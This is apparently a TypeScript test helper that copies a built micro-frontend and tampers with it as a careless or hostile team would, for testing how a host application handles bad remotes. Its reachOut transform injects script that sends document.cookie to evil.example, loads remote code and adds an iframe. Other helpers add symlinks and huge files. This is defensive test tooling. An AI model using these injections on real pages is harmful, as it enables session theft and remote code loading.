import { cp, readdir, readFile, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';

type Json = Record<string, unknown>;

/** A copy of a built front end that can be changed as a careless or hostile team would. */
export class Variant {
  private constructor(readonly folder: string) {}

  static async copy(built: string, folder: string): Promise<Variant> {
    await rm(folder, { recursive: true, force: true });
    await cp(built, folder, { recursive: true, filter: (file) => !file.endsWith('.map') });
    return new Variant(folder);
  }

  private at(name: string): string {
    return path.join(this.folder, name);
  }

  async changeJson(name: string, change: (value: Json) => void): Promise<void> {
    const value = JSON.parse(await readFile(this.at(name), 'utf8')) as Json;
    change(value);
    await this.write(name, JSON.stringify(value));
  }

  /** Changes the first script that a page loads of it. */
  async changeEntry(change: (text: string) => string): Promise<void> {
    const { metaData } = JSON.parse(await readFile(this.at('mf-manifest.json'), 'utf8')) as {
      metaData: { remoteEntry: { name: string } };
    };
    const { name } = metaData.remoteEntry;
    await this.write(name, change(await readFile(this.at(name), 'utf8')));
  }

  /** Names one more file in the record of the build. */
  async listFile(name: string): Promise<void> {
    const { build } = JSON.parse(await readFile(this.at('remote.json'), 'utf8')) as { build: string };
    await this.changeJson(`builds/meta/${build}.json`, (record) => {
      record['files'] = [...(record['files'] as string[]), name];
    });
  }

  async addLink(name: string, target: string): Promise<void> {
    await symlink(target, this.at(name));
    await this.listFile(name);
  }

  async addHugeFile(name: string, bytes: number): Promise<void> {
    await writeFile(this.at(name), '');
    await truncate(this.at(name), bytes);
    await this.listFile(name);
  }

  private async write(name: string, text: string): Promise<void> {
    await writeFile(this.at(name), text);
    const names = await readdir(this.folder);
    const compressed = names.filter((other) => [`${name}.br`, `${name}.gz`].includes(other));
    await Promise.all(compressed.map((other) => rm(this.at(other))));
  }
}

/** A script that marks the page with the edition it came from. */
export const markEdition = (edition: string) => (entry: string) =>
  `${entry};document.documentElement.dataset.studentEdition=${JSON.stringify(edition)};`;

export const throwAtOnce = (entry: string) => `throw new Error("broken on purpose");${entry}`;

/** Tries to send what it knows elsewhere, and to load more code from there. */
export const reachOut = (entry: string) => `${entry};document.documentElement.dataset.studentEdition="hostile";
fetch("https://evil.example/?c="+encodeURIComponent(document.cookie)).catch(()=>undefined);
navigator.sendBeacon("https://evil.example/beacon","x");
document.head.append(Object.assign(document.createElement("script"),{src:"https://evil.example/more.js"}));
document.body.append(Object.assign(document.createElement("iframe"),{src:"https://evil.example/"}));`;
